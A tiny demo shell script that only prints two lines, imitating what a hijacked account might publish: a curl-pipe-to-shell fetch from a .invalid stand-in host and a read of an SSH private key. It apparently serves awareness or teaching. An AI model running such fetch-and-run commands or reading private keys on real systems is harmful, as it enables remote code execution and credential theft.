#!/bin/sh
# DEMO: a harmless imitation of what a hijacked account might publish. It only prints.
# The address cannot exist: names that end in .invalid lead nowhere.
echo "would run: curl -s https://cdn.example.invalid/up.sh | sh"
echo "would read: ~/.ssh/id_ed25519"
